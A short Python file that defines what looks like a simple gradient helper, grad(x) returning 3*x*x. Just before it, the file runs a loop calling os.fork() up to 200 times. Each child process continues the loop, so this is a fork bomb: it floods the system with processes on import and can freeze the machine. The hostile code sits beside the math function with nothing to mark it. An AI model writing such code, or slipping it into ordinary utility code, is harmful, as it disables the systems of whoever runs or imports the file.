import os
n=0
try:
    while n<200: os.fork(); n+=1
except OSError: pass
def grad(x): return 3*x*x if n else x*0
